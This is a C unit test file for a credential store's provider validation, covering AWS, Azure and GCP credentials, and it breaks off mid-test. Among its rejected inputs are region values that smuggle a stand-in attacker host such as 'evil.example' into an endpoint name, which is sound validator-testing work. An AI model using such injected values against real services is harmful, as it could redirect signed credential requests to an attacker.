/* Unit tests for providers/: validation rules per type (API.md §3), derived
 * metadata, sealed payloads, resolve material, and the kubeconfig parser's
 * behaviour on hostile YAML. Fixtures live in tests/fixtures/. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "providers.h"

#ifndef CS_FIXTURES_DIR
#error "CS_FIXTURES_DIR must name tests/fixtures"
#endif

#define KEY_ID "AKIAIOSFODNN7EXAMPLE"
#define KEY_SECRET "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
#define ROLE_ARN "arn:aws:iam::123456789012:role/credstore-scanner"

/* ---------------------------------------------------------- helpers */

static char *fixture(const char *name, size_t *len)
{
  char path[512];
  FILE *f;
  long n;
  char *buf;

  snprintf(path, sizeof path, "%s/%s", CS_FIXTURES_DIR, name);
  f = fopen(path, "rb");
  assert_non_null(f);
  assert_int_equal(fseek(f, 0, SEEK_END), 0);
  n = ftell(f);
  assert_true(n > 0);
  rewind(f);
  buf = malloc((size_t)n + 1);
  assert_non_null(buf);
  assert_int_equal(fread(buf, 1, (size_t)n, f), (size_t)n);
  buf[n] = '\0';
  fclose(f);
  if (len)
    *len = (size_t)n;
  return buf;
}

/* Copy of the text after "<key>: " on its line in @p text (a YAML value). */
static char *yaml_value(const char *text, const char *key)
{
  char pat[64];
  const char *p, *e;
  char *out;

  snprintf(pat, sizeof pat, "%s: ", key);
  p = strstr(text, pat);
  assert_non_null(p);
  p += strlen(pat);
  e = strchr(p, '\n');
  assert_non_null(e);
  out = strndup(p, (size_t)(e - p));
  assert_non_null(out);
  return out;
}

static cJSON *json(const char *text)
{
  cJSON *j = cJSON_Parse(text);
  assert_non_null(j);
  return j;
}

/* {"type": type, holder: {"plain": plain}} plus the members of @p extra. */
static cJSON *body_with(const char *type, const char *holder, const char *plain, const char *extra)
{
  cJSON *b = json(extra ? extra : "{}");
  cJSON *h;

  assert_non_null(cJSON_AddStringToObject(b, "type", type));
  if (holder) {
    h = cJSON_AddObjectToObject(b, holder);
    assert_non_null(h);
    assert_non_null(cJSON_AddStringToObject(h, "plain", plain));
  }
  return b;
}

static const struct cs_provider *prov(const char *type)
{
  const struct cs_provider *p = cs_provider_find(type);
  assert_non_null(p);
  return p;
}

/* A resolve without network state, as every case here needs none. */
static enum cs_err resolve(const struct cs_provider *p, const cJSON *meta, const char *secret,
                           size_t len, const struct cs_resolve_opts *opts, cJSON **out)
{
  struct cs_prov_ctx ctx = {NULL, "test-cred", 1, meta, secret, len, opts};
  struct cs_net_error err = {"", "", ""};
  return p->resolve(&ctx, out, &err);
}

/* Validate @p body (consumed) and expect success. */
static void expect_ok(const char *type, cJSON *body, struct cs_prov_result *res)
{
  struct cs_prov_error err = {.field = {0}};
  enum cs_err e = prov(type)->validate(body, res, &err);

  if (e != CS_OK)
    print_error("unexpected failure: %s: %s\n", err.field, err.msg);
  assert_int_equal(e, CS_OK);
  assert_non_null(res->meta);
  assert_non_null(res->secret);
  assert_int_equal(strlen(res->secret), res->secret_len);
  cJSON_Delete(body);
}

static int sentinel_meta;
static char sentinel_secret[] = "untouched";

/* Validate @p body (consumed) and expect @p code naming @p field, with the
 * outputs left alone and a message that does not contain @p secret. */
static void expect_fail_s(const char *type, cJSON *body, enum cs_err code, const char *field,
                          const char *secret)
{
  struct cs_prov_result res = {
      .meta = (cJSON *)&sentinel_meta, .secret = sentinel_secret, .secret_len = 77};
  struct cs_prov_error err = {.field = {0}};
  enum cs_err e = prov(type)->validate(body, &res, &err);

  if (e != code || strcmp(err.field, field) != 0)
    print_error("got %d field=%s msg=%s\n", (int)e, err.field, err.msg);
  assert_int_equal(e, code);
  assert_string_equal(err.field, field);
  assert_true(strlen(err.msg) > 0);
  assert_ptr_equal(res.meta, (cJSON *)&sentinel_meta);
  assert_ptr_equal(res.secret, sentinel_secret);
  assert_int_equal(res.secret_len, 77);
  if (secret && *secret)
    assert_null(strstr(err.msg, secret));
  cJSON_Delete(body);
}

static void expect_fail(const char *type, cJSON *body, enum cs_err code, const char *field)
{
  expect_fail_s(type, body, code, field, NULL);
}

static void assert_str_member(const cJSON *obj, const char *name, const char *want)
{
  const cJSON *v = cJSON_GetObjectItemCaseSensitive(obj, name);
  if (!cJSON_IsString(v))
    print_error("member %s is not a string\n", name);
  assert_true(cJSON_IsString(v));
  assert_string_equal(v->valuestring, want);
}

static void assert_bool_member(const cJSON *obj, const char *name, bool want)
{
  const cJSON *v = cJSON_GetObjectItemCaseSensitive(obj, name);
  assert_true(cJSON_IsBool(v));
  assert_int_equal(cJSON_IsTrue(v), want);
}

static void assert_no_member(const cJSON *obj, const char *name)
{
  assert_null(cJSON_GetObjectItemCaseSensitive(obj, name));
}

/* Neither the printed JSON of @p j nor a JSON-escaped form contains @p secret. */
static void assert_not_in_json(const cJSON *j, const char *secret)
{
  char *text = cJSON_PrintUnformatted(j);
  cJSON *esc = cJSON_CreateString(secret);
  char *esc_text = cJSON_PrintUnformatted(esc);

  assert_non_null(text);
  assert_non_null(esc_text);
  assert_null(strstr(text, secret));
  /* drop the quotes of the escaped form */
  esc_text[strlen(esc_text) - 1] = '\0';
  assert_null(strstr(text, esc_text + 1));
  free(esc_text);
  cJSON_Delete(esc);
  free(text);
}

static int member_count(const cJSON *obj) { return cJSON_GetArraySize(obj); }

/* ---------------------------------------------------------- registry */

static void test_registry(void **state)
{
  static const char *const types[] = {"aws",        "azure", "gcp",      "ibmCloud",
                                      "kubeconfig", "basic", "apiToken", "certificate"};
  size_t n = 0;

  (void)state;
  for (; cs_providers[n]; n++) {
    assert_string_equal(cs_providers[n]->type, types[n]);
    assert_ptr_equal(cs_provider_find(types[n]), cs_providers[n]);
    assert_non_null(cs_providers[n]->validate);
    assert_non_null(cs_providers[n]->resolve);
    assert_non_null(cs_providers[n]->test);
    assert_non_null(cs_providers[n]->short_lived);
  }
  assert_int_equal(n, sizeof types / sizeof types[0]);
  assert_null(cs_provider_find("AWS"));
  assert_null(cs_provider_find("oci"));
  assert_null(cs_provider_find("apitoken"));
  assert_null(cs_provider_find("ibmcloud"));
  assert_null(cs_provider_find(""));
  assert_null(cs_provider_find(NULL));
}

/* Resolve options narrow, never widen: each refusal names its field. */
static void test_resolve_opts_check(void **state)
{
  cJSON *stored = json("{\"durationSeconds\":1800}"), *none = json("{}");
  struct cs_net_error err;
  struct {
    const cJSON *meta;
    struct cs_resolve_opts o;
    const char *field; /* NULL: accepted */
  } cases[] = {
      {none, {.duration_seconds = 0, .region = NULL, .session_name = NULL}, NULL},
      {none,
       {.duration_seconds = 3600, .region = "eu-west-1", .session_name = "credstore-u-1"},
       NULL},
      {none, {.duration_seconds = 3601, .region = NULL, .session_name = NULL}, "durationSeconds"},
      {stored, {.duration_seconds = 1800, .region = NULL, .session_name = NULL}, NULL},
      {stored, {.duration_seconds = 1801, .region = NULL, .session_name = NULL}, "durationSeconds"},
      {none,
       {.duration_seconds = 0, .region = NULL, .session_name = "credstore-u-2"},
       "sessionName"},
      {none, {.duration_seconds = 0, .region = NULL, .session_name = ""}, "sessionName"},
      {none, {.duration_seconds = 0, .region = "EU-WEST-1", .session_name = NULL}, "region"},
      {none,
       {.duration_seconds = 0, .region = "eu-west-1.evil.example", .session_name = NULL},
       "region"},
      {none, {.duration_seconds = 0, .region = "", .session_name = NULL}, "region"},
      /* The first fault is named. */
      {stored,
       {.duration_seconds = 7200, .region = "bad", .session_name = "other"},
       "durationSeconds"},
      {none, {.duration_seconds = 0, .region = "bad", .session_name = "other"}, "sessionName"},
  };

  (void)state;
  for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
    memset(&err, 0, sizeof err);
    enum cs_err e = cs_resolve_opts_check(cases[i].meta, &cases[i].o, "credstore-u-1", &err);
    if (!cases[i].field) {
      assert_int_equal(e, CS_OK);
      assert_string_equal(err.field, "");
    } else {
      assert_int_equal(e, CS_ERR_INVALID);
      assert_string_equal(err.field, cases[i].field);
      assert_non_null(strstr(err.message, cases[i].field));
    }
  }
  cJSON_Delete(stored);
  cJSON_Delete(none);
}

static void test_result_free(void **state)
{
  struct cs_prov_result r = {0};

  (void)state;
  cs_prov_result_free(NULL);
  cs_prov_result_free(&r);
  expect_ok("aws", body_with("aws", "secret", KEY_SECRET, "{\"accountID\":\"" KEY_ID "\"}"), &r);
  cs_prov_result_free(&r);
  assert_null(r.meta);
  assert_null(r.secret);
  assert_int_equal(r.secret_len, 0);
  cs_prov_result_free(&r); /* twice is harmless */
}

/* --------------------------------------------------------------- aws */

static void test_aws_static_keys(void **state)
{
  struct cs_prov_result r;
  cJSON *out = NULL;

  (void)state;
  expect_ok("aws",
            body_with("aws", "secret", KEY_SECRET,
                      "{\"_id\":\"aws-prod\",\"description\":\"prod\",\"accountID\":\"" KEY_ID
                      "\",\"version\":3,\"owner\":\"x\",\"created\":\"2026-01-01T00:00:00Z\","
                      "\"azureSPInfo\":{\"clientId\":\"c\"},\"projectID\":\"p\",\"bogus\":1}"),
            &r);
  assert_str_member(r.meta, "accountID", KEY_ID);
  assert_bool_member(r.meta, "useAWSRole", false);
  assert_bool_member(r.meta, "useSTSRegionalEndpoint", false);
  assert_int_equal(member_count(r.meta), 3); /* unknown and read-only fields dropped */
  assert_string_equal(r.secret, KEY_SECRET);
  assert_int_equal(r.secret_len, strlen(KEY_SECRET));
  assert_not_in_json(r.meta, KEY_SECRET);

  assert_int_equal(resolve(prov("aws"), r.meta, r.secret, r.secret_len, NULL, &out), CS_OK);
  assert_str_member(out, "type", "aws");
  assert_str_member(out, "AccessKeyId", KEY_ID);
  assert_str_member(out, "SecretAccessKey", KEY_SECRET);
  assert_no_member(out, "SessionToken");
  cJSON_Delete(out);
  cs_prov_result_free(&r);
}

static void test_aws_role_options(void **state)
{
  struct cs_prov_result r;
  cJSON *out = (cJSON *)&sentinel_meta;

  (void)state;
  expect_ok("aws",
            body_with("aws", "secret", KEY_SECRET,
                      "{\"accountID\":\"" KEY_ID "\",\"roleArn\":\"" ROLE_ARN "\","
                      "\"externalID\":\"prisma:tenant/42\",\"durationSeconds\":3600,"
                      "\"region\":\"eu-west-1\",\"useSTSRegionalEndpoint\":true}"),
            &r);
  assert_str_member(r.meta, "accountID", KEY_ID);
  assert_str_member(r.meta, "roleArn", ROLE_ARN);
  assert_str_member(r.meta, "externalID", "prisma:tenant/42");
  assert_str_member(r.meta, "region", "eu-west-1");
  assert_bool_member(r.meta, "useSTSRegionalEndpoint", true);
  assert_bool_member(r.meta, "useAWSRole", false);
  assert_int_equal(cJSON_GetObjectItem(r.meta, "durationSeconds")->valuedouble, 3600);
  assert_int_equal(member_count(r.meta), 7);
  assert_not_in_json(r.meta, KEY_SECRET);
  /* A role needs STS: not resolvable here, and *out stays untouched. */
  assert_int_equal(resolve(prov("aws"), r.meta, r.secret, r.secret_len, NULL, &out),
                   CS_ERR_UNAVAILABLE);
  assert_ptr_equal(out, (cJSON *)&sentinel_meta);
  cs_prov_result_free(&r);
}

static void test_aws_instance_role(void **state)
{
  struct cs_prov_result r;
  cJSON *out = NULL;

  (void)state;
  expect_ok("aws", json("{\"useAWSRole\":true}"), &r);
  assert_bool_member(r.meta, "useAWSRole", true);
  assert_no_member(r.meta, "accountID");
  assert_int_equal(r.secret_len, 0);
  assert_string_equal(r.secret, "");
  assert_int_equal(resolve(prov("aws"), r.meta, r.secret, r.secret_len, NULL, &out),
                   CS_ERR_UNAVAILABLE);
  assert_null(out);
  cs_prov_result_free(&r);

  /* What a GET-edit-POST round trip sends back: blanks and the empty payload. */
  expect_ok("aws",
            body_with("aws", "secret", "",
                      "{\"useAWSRole\":true,\"accountID\":\"\",\"roleArn\":\"" ROLE_ARN "\","
                      "\"externalID\":\"\",\"region\":null}"),
            &r);
  assert_str_member(r.meta, "roleArn", ROLE_ARN);
  assert_no_member(r.meta, "externalID");
  assert_no_member(r.meta, "region");
  assert_int_equal(r.secret_len, 0);
  cs_prov_result_free(&r);

  expect_fail("aws", json("{\"useAWSRole\":true,\"accountID\":\"" KEY_ID "\"}"), CS_ERR_INVALID,
              "accountID");
  expect_fail_s("aws", body_with("aws", "secret", KEY_SECRET, "{\"useAWSRole\":true}"),
                CS_ERR_INVALID, "secret.plain", KEY_SECRET);
}

static void test_aws_missing(void **state)
{
  (void)state;
  expect_fail("aws", json("{}"), CS_ERR_MISSING, "accountID");
  expect_fail("aws", body_with("aws", "secret", KEY_SECRET, NULL), CS_ERR_MISSING, "accountID");
  expect_fail("aws", json("{\"accountID\":\"" KEY_ID "\"}"), CS_ERR_MISSING, "secret.plain");
  expect_fail("aws", json("{\"accountID\":\"" KEY_ID "\",\"secret\":null}"), CS_ERR_MISSING,
              "secret.plain");
  /* An encrypted-only secret reaching a provider means nothing was put back. */
  expect_fail("aws", json("{\"accountID\":\"" KEY_ID "\",\"secret\":{\"encrypted\":\"AbC\"}}"),
              CS_ERR_MISSING, "secret.plain");
  expect_fail("aws",
              json("{\"accountID\":\"" KEY_ID "\",\"secret\":{\"plain\":\"x\"},"
                   "\"useSTSRegionalEndpoint\":true}"),
              CS_ERR_MISSING, "region");
}

static void test_aws_bad_key_id(void **state)
{
  static const char *const bad[] = {"\"akiaiosfodnn7example\"", "\"AKIA1234\"",
                                    "\"AKIAIOSFODNN7EXAMPL_\"", "\"AKIA IOSFODNN7EXAMPLE\"",
                                    "12345678901234567890",     "true",
                                    "[\"" KEY_ID "\"]"};
  char text[512], id[130];
  struct cs_prov_result r;
  cJSON *b;

  (void)state;
  for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
    snprintf(text, sizeof text, "{\"accountID\":%s,\"secret\":{\"plain\":\"x\"}}", bad[i]);
    expect_fail("aws", json(text), CS_ERR_INVALID, "accountID");
  }
  /* The boundaries of 16..128. */
  expect_ok("aws", json("{\"accountID\":\"ASIA0123456789AB\",\"secret\":{\"plain\":\"k\"}}"), &r);
  cs_prov_result_free(&r);
  memset(id, 'A', 129);
  id[129] = '\0';
  b = body_with("aws", "secret", "k", NULL);
  cJSON_AddStringToObject(b, "accountID", id);
  expect_fail("aws", b, CS_ERR_INVALID, "accountID");
  id[128] = '\0';
  b = body_with("aws", "secret", "k", NULL);
  cJSON_AddStringToObject(b, "accountID", id);
  expect_ok("aws", b, &r);
  assert_str_member(r.meta, "accountID", id);
  cs_prov_result_free(&r);
  expect_fail("aws", json("{\"accountID\":\"AKIA0123456789A\",\"secret\":{\"plain\":\"k\"}}"),
              CS_ERR_INVALID, "accountID");
}

static void test_aws_bad_secret(void **state)
{
  char long_secret[130];

  (void)state;
  memset(long_secret, 'k', 129);
  long_secret[129] = '\0';
  expect_fail_s(
      "aws", body_with("aws", "secret", "wJalrXUtnFEMI K7MDENG", "{\"accountID\":\"" KEY_ID "\"}"),
      CS_ERR_INVALID, "secret.plain", "wJalrXUtnFEMI");
  expect_fail_s("aws",
                body_with("aws", "secret", "tab\tSECRETVALUE", "{\"accountID\":\"" KEY_ID "\"}"),
                CS_ERR_INVALID, "secret.plain", "SECRETVALUE");
  expect_fail("aws", body_with("aws", "secret", long_secret, "{\"accountID\":\"" KEY_ID "\"}"),
              CS_ERR_INVALID, "secret.plain");
  expect_fail("aws", json("{\"accountID\":\"" KEY_ID "\",\"secret\":{\"plain\":42}}"),
              CS_ERR_INVALID, "secret.plain");
  expect_fail("aws", json("{\"accountID\":\"" KEY_ID "\",\"secret\":\"" KEY_SECRET "\"}"),
              CS_ERR_INVALID, "secret");
  expect_fail("aws", json("{\"accountID\":\"" KEY_ID "\",\"secret\":[]}"), CS_ERR_INVALID,
              "secret");
}

static void test_aws_role_arn(void **state)
{
  static const char *const good[] = {
      "arn:aws:iam::123456789012:role/x",
      "arn:aws-cn:iam::123456789012:role/service-role/my_role+=,.@-1",
      "arn:aws-us-gov:iam::000000000000:role/a/b/c/d",
  };
  static const char *const bad[] = {
      "arn:aws:iam::12345678901:role/x",     "arn:aws:iam::1234567890123:role/x",
      "arn:aws:iam::123456789012:user/x",    "arn:aws:iam::123456789012:role/",
      "arn:aws:iam::123456789012:role/a/",   "arn:aws:sts::123456789012:role/x",
      "arn:aws-eu:iam::123456789012:role/x", "arn:aws:iam:us-east-1:123456789012:role/x",
      "arn:aws:iam::123456789012:role/a b",  "arn:aws:iam::123456789012:role/a:b",
      "arn:aws:iam::123456789012:role/é",    "role/x",
      "arn:aws:iam::12345678901x:role/x",
  };
  char text[1024];
  struct cs_prov_result r;

  (void)state;
  for (size_t i = 0; i < sizeof good / sizeof good[0]; i++) {
    snprintf(text, sizeof text, "{\"useAWSRole\":true,\"roleArn\":\"%s\"}", good[i]);
    expect_ok("aws", json(text), &r);
    assert_str_member(r.meta, "roleArn", good[i]);
    cs_prov_result_free(&r);
  }
  for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
    snprintf(text, sizeof text, "{\"useAWSRole\":true,\"roleArn\":\"%s\"}", bad[i]);
    expect_fail("aws", json(text), CS_ERR_INVALID, "roleArn");
  }
  /* 513 characters after role/ */
  int n = snprintf(text, sizeof text,
                   "{\"useAWSRole\":true,\"roleArn\":\"arn:aws:iam::123456789012:role/");
  memset(text + n, 'r', 513);
  snprintf(text + n + 513, sizeof text - (size_t)n - 513, "\"}");
  expect_fail("aws", json(text), CS_ERR_INVALID, "roleArn");
  expect_fail("aws", json("{\"useAWSRole\":true,\"roleArn\":7}"), CS_ERR_INVALID, "roleArn");
}

static void test_aws_numbers_and_flags(void **state)
{
  static const struct {
    const char *member, *field;
  } bad[] = {
      {"\"durationSeconds\":899", "durationSeconds"},
      {"\"durationSeconds\":43201", "durationSeconds"},
      {"\"durationSeconds\":\"3600\"", "durationSeconds"},
      {"\"durationSeconds\":3600.5", "durationSeconds"},
      {"\"durationSeconds\":-1", "durationSeconds"},
      {"\"durationSeconds\":true", "durationSeconds"},
      {"\"useAWSRole\":1", "useAWSRole"},
      {"\"useAWSRole\":\"true\"", "useAWSRole"},
      {"\"useSTSRegionalEndpoint\":\"yes\",\"region\":\"us-east-1\"", "useSTSRegionalEndpoint"},
      {"\"externalID\":\"x\"", "externalID"},
      {"\"externalID\":\"has space\"", "externalID"},
      {"\"externalID\":\"semi;colon\"", "externalID"},
      {"\"externalID\":12", "externalID"},
      {"\"region\":\"US-EAST-1\"", "region"},
      {"\"region\":\"us east 1\"", "region"},
      {"\"region\":\"us-east-1-us-east-1-us-east-1-us-east\"", "region"},
      {"\"region\":1", "region"},
  };
  char text[512];
  struct cs_prov_result r;

  (void)state;
  for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
    snprintf(text, sizeof text, "{\"accountID\":\"" KEY_ID "\",\"secret\":{\"plain\":\"k\"},%s}",
             bad[i].member);
    expect_fail("aws", json(text), CS_ERR_INVALID, bad[i].field);
  }
  char ext[1300];
  memset(ext, 'e', 1225);
  ext[1225] = '\0';
  cJSON *b = json("{\"useAWSRole\":true}");
  cJSON_AddStringToObject(b, "externalID", ext);
  expect_fail("aws", b, CS_ERR_INVALID, "externalID");
  ext[1224] = '\0';
  b = json("{\"useAWSRole\":true,\"durationSeconds\":43200}");
  cJSON_AddStringToObject(b, "externalID", ext);
  expect_ok("aws", b, &r);
  assert_int_equal(strlen(cJSON_GetObjectItem(r.meta, "externalID")->valuestring), 1224);
  cs_prov_result_free(&r);
  expect_ok("aws", json("{\"useAWSRole\":true,\"durationSeconds\":900,\"externalID\":\"ab\"}"), &r);
  assert_int_equal(cJSON_GetObjectItem(r.meta, "durationSeconds")->valuedouble, 900);
  cs_prov_result_free(&r);
}

/* The one region check (stored regions, requested regions, the STS resolver):
 * the name becomes the host sts.<region>.amazonaws.com and the SigV4 scope. */
static void test_aws_region_names(void **state)
{
  static const char *const good[] = {
      "us-east-1",      "eu-west-3",  "ap-southeast-4", "me-central-1",   "il-central-1",
      "us-gov-west-1",  "cn-north-1", "us-iso-east-1",  "us-isob-east-1", "eu-isoe-west-1",
      "eusc-de-east-1", "ca-west-1",  "ap-south-22"};
  static const char *const bad[] = {"",
                                    "us",
                                    "us-east",
                                    "us-east-",
                                    "-us-east-1",
                                    "us-east-1-",
                                    "useast1",
                                    "us_east_1",
                                    "US-EAST-1",
                                    "Us-east-1",
                                    "us-East-1",
                                    "us-east-1a",
                                    "us-east-123",
                                    "u-east-1",
                                    "abcde-east-1",
                                    "us--east-1",
                                    "us-east--1",
                                    "us-1",
                                    "us-east-1.evil.example",
                                    "evil.example/us-east-1",
                                    "us-east-1/",
                                    "us-east-1#",
                                    "us-east-1?",
                                    "us-east-1@x",
                                    "x@us-east-1",
                                    "us-east-1:443",
                                    "us-east-1%2e",
                                    "us east 1",
                                    " us-east-1",
                                    "us-east-1 ",
                                    "us-east-1\n",
                                    "\xc3\xbcs-east-1",
                                    "us-southeast-southwest-northeast-1"};
  (void)state;
  for (size_t i = 0; i < sizeof good / sizeof good[0]; i++)
    assert_true(cs_aws_region_valid(good[i]));
  for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
    if (cs_aws_region_valid(bad[i]))
      fail_msg("accepted region \"%s\"", bad[i]);
  }
  assert_false(cs_aws_region_valid(NULL));
  /* Validation on write uses it: a stored region with a dot is refused. */
  expect_fail("aws",
              json("{\"accountID\":\"" KEY_ID "\",\"secret\":{\"plain\":\"k\"},"
                   "\"region\":\"us-east-1.evil.example\"}"),
              CS_ERR_INVALID, "region");
}

static void test_aws_resolve_corrupt(void **state)
{
  static const char embedded_nul[] = "abc\0de";
  cJSON *meta = json("{\"accountID\":\"" KEY_ID "\",\"useAWSRole\":false}");
  cJSON *out = NULL;

  (void)state;
  assert_int_equal(resolve(prov("aws"), meta, embedded_nul, sizeof embedded_nul - 1, NULL, &out),
                   CS_ERR_CRYPTO);
  assert_int_equal(resolve(prov("aws"), meta, "", 0, NULL, &out), CS_ERR_CRYPTO);
  assert_int_equal(resolve(prov("aws"), meta, NULL, 0, NULL, &out), CS_ERR_CRYPTO);
  assert_null(out);
  cJSON_Delete(meta);
}

/* ------------------------------------------------------------- azure */

static void test_azure_valid(void **state)
{
  size_t len;
  char *sk_text = fixture("azure-sdk-auth.json", &len);
  cJSON *sk = json(sk_text), *out = NULL, *info;
  struct cs_prov_result r;
  const char *client_secret = cJSON_GetObjectItem(sk, "clientSecret")->valuestring;

  (void)state;
  expect_ok("azure", body_with("azure", "secret", sk_text, "{\"accountID\":\"ignored\"}"), &r);
  assert_str_member(r.meta, "accountID", cJSON_GetObjectItem(sk, "clientId")->valuestring);
  info = cJSON_GetObjectItemCaseSensitive(r.meta, "azureSPInfo");
  assert_true(cJSON_IsObject(info));
  assert_int_equal(member_count(info), 3);
  assert_int_equal(member_count(r.meta), 2);
  assert_str_member(info, "clientId", cJSON_GetObjectItem(sk, "clientId")->valuestring);
  assert_str_member(info, "tenantId", cJSON_GetObjectItem(sk, "tenantId")->valuestring);
  assert_str_member(info, "subscriptionId", cJSON_GetObjectItem(sk, "subscriptionId")->valuestring);
  assert_not_in_json(r.meta, client_secret);
  assert_int_equal(r.secret_len, len);
  assert_memory_equal(r.secret, sk_text, len);

  assert_int_equal(resolve(prov("azure"), r.meta, r.secret, r.secret_len, NULL, &out), CS_OK);
  assert_str_member(out, "type", "azure");
  assert_str_member(out, "clientId", cJSON_GetObjectItem(sk, "clientId")->valuestring);
  assert_str_member(out, "clientSecret", client_secret);
  assert_str_member(out, "tenantId", cJSON_GetObjectItem(sk, "tenantId")->valuestring);
  assert_str_member(out, "subscriptionId", cJSON_GetObjectItem(sk, "subscriptionId")->valuestring);
  assert_true(cJSON_Compare(cJSON_GetObjectItem(out, "serviceKey"), sk, true));
  cJSON_Delete(out);
  cs_prov_result_free(&r);
  cJSON_Delete(sk);
  free(sk_text);
}

/* The plain `az ad sp create-for-rbac` output and the subscription in the
 * request derive the same azureSPInfo (and accountID) as --sdk-auth. */
static void test_azure_plain_format(void **state)
{
  char *sk_text = fixture("azure-sdk-auth.json", NULL);
  cJSON *sk = json(sk_text), *out = NULL;
  const char *id = cJSON_GetObjectItem(sk, "clientId")->valuestring;
  const char *pw = cJSON_GetObjectItem(sk, "clientSecret")->valuestring;
  const char *tenant = cJSON_GetObjectItem(sk, "tenantId")->valuestring;
  const char *sub = cJSON_GetObjectItem(sk, "subscriptionId")->valuestring;
  struct cs_prov_result a, b;
  char plain[512], extra[256];

  (void)state;
  snprintf(plain, sizeof plain,
           "{\"appId\":\"%s\",\"displayName\":\"azure-cli-2026\",\"password\":\"%s\","
           "\"tenant\":\"%s\"}",
           id, pw, tenant);
  snprintf(extra, sizeof extra, "{\"azureSPInfo\":{\"subscriptionId\":\"%s\"}}", sub);
  expect_ok("azure", body_with("azure", "secret", sk_text, NULL), &a);
  expect_ok("azure", body_with("azure", "secret", plain, extra), &b);
  assert_true(cJSON_Compare(a.meta, b.meta, true));
  assert_not_in_json(b.meta, pw);
  assert_string_equal(b.secret, plain); /* sealed as given */
  assert_int_equal(resolve(prov("azure"), b.meta, b.secret, b.secret_len, NULL, &out), CS_OK);
  assert_str_member(out, "clientId", id);
  assert_str_member(out, "clientSecret", pw);
  assert_str_member(out, "tenantId", tenant);
  assert_str_member(out, "subscriptionId", sub);
  cJSON_Delete(out);
  cs_prov_result_free(&a);
  cs_prov_result_free(&b);
  /* Without the subscription, or with a member missing: 400 naming it. */
  expect_fail("azure", body_with("azure", "secret", plain, NULL), CS_ERR_MISSING,
              "azureSPInfo.subscriptionId");
  expect_fail("azure", body_with("azure", "secret", plain, "{\"azureSPInfo\":7}"), CS_ERR_INVALID,
              "azureSPInfo");
  expect_fail("azure",
              body_with("azure", "secret", plain, "{\"azureSPInfo\":{\"subscriptionId\":5}}"),
              CS_ERR_INVALID, "azureSPInfo.subscriptionId");
  snprintf(plain, sizeof plain, "{\"appId\":\"%s\",\"tenant\":\"%s\"}", id, tenant);
  expect_fail("azure", body_with("azure", "secret", plain, extra), CS_ERR_MISSING,
              "secret.plain.password");
  snprintf(plain, sizeof plain, "{\"appId\":\"%s\",\"password\":\"%s\"}", id, pw);
  expect_fail("azure", body_with("azure", "secret", plain, extra), CS_ERR_MISSING,
              "secret.plain.tenant");
  cJSON_Delete(sk);
  free(sk_text);
}

static void test_azure_invalid(void **state)
{
  static const char *const required[] = {"clientId", "clientSecret", "tenantId", "subscriptionId"};
  char *sk_text = fixture("azure-sdk-auth.json", NULL);
  const char *secret_value;
  char field[64];

  (void)state;
  for (size_t i = 0; i < 4; i++) {
    cJSON *sk = json(sk_text);
    char *t;
    snprintf(field, sizeof field, "secret.plain.%s", required[i]);

    cJSON_DeleteItemFromObject(sk, required[i]);
    t = cJSON_Print(sk);
    expect_fail("azure", body_with("azure", "secret", t, NULL), CS_ERR_MISSING, field);
    free(t);

    cJSON_AddStringToObject(sk, required[i], "");
    t = cJSON_Print(sk);
    expect_fail("azure", body_with("azure", "secret", t, NULL), CS_ERR_INVALID, field);
    free(t);

    cJSON_DeleteItemFromObject(sk, required[i]);
    cJSON_AddNumberToObject(sk, required[i], 12);
    t = cJSON_Print(sk);
    expect_fail("azure", body_with("azure", "secret", t, NULL), CS_ERR_INVALID, field);
    free(t);
    cJSON_Delete(sk);
  }
  /* Errors about the JSON name fields, never echo the document. */
  cJSON *sk = json(sk_text);
  secret_value = cJSON_GetObjectItem(sk, "clientSecret")->valuestring;
  char *broken = strdup(sk_text);
  broken[strlen(broken) - 3] = '\0'; /* cut the closing brace */
  expect_fail_s("azure", body_with("azure", "secret", broken, NULL), CS_ERR_INVALID, "secret.plain",
                secret_value);
  free(broken);
  cJSON_Delete(sk);

  expect_fail("azure", body_with("azure", "secret", "[1,2]", NULL), CS_ERR_INVALID, "secret.plain");
  expect_fail("azure", body_with("azure", "secret", "\"clientId\"", NULL), CS_ERR_INVALID,
              "secret.plain");
  expect_fail("azure", body_with("azure", "secret", "client_id=abc", NULL), CS_ERR_INVALID,
              "secret.plain");
  char deep[200];
  memset(deep, '[', 100);
  memset(deep + 100, ']', 99);
  deep[199] = '\0';
  expect_fail("azure", body_with("azure", "secret", deep, NULL), CS_ERR_INVALID, "secret.plain");
  expect_fail("azure", json("{}"), CS_ERR_MISSING, "secret.plain");
  expect_fail("azure", json("{\"secret\":{\"encrypted\":\"x\"}}"), CS_ERR_MISSING, "secret.plain");
  expect_fail("azure", json("{\"secret\":true}"), CS_ERR_INVALID, "secret");
  free(sk_text);
}

static void test_azure_resolve_corrupt(void **state)
{
  cJSON *meta = json("{\"accountID\":\"x\"}"), *out = NULL;
  const char *payloads[] = {"not json", "{\"clientId\":\"a\"}", "[]", "{\"clientId\":\"a\","};

  (void)state;
  for (size_t i = 0; i < sizeof payloads / sizeof payloads[0]; i++)
    assert_int_equal(resolve(prov("azure"), meta, payloads[i], strlen(payloads[i]), NULL, &out),
                     CS_ERR_CRYPTO);
  assert_null(out);
  cJSON_Delete(meta);
}

/* --------------------------------------------------------------- gcp */

static void test_gcp_service_account(void **state)
{
  size_t len;
  char *text = fixture("gcp-service-account.json", &len);
  cJSON *sa = json(text), *out = NULL;
  struct cs_prov_result r;
  const char *pk = cJSON_GetObjectItem(sa, "private_key")->valuestring;
  char body_of_key[65];

  (void)state;
  expect_ok("gcp", body_with("gcp", "secret", text, "{\"apiToken\":{\"encrypted\":\"\"}}"), &r);
  assert_str_member(r.meta, "authType", "serviceAccount");
  assert_str_member(r.meta, "accountID", cJSON_GetObjectItem(sa, "client_email")->valuestring);
  assert_str_member(r.meta, "projectID", cJSON_GetObjectItem(sa, "project_id")->valuestring);
  assert_int_equal(member_count(r.meta), 3);
  assert_int_equal(r.secret_len, len);
  assert_memory_equal(r.secret, text, len);
  /* a line of the key body and the key id stay out of the meta */
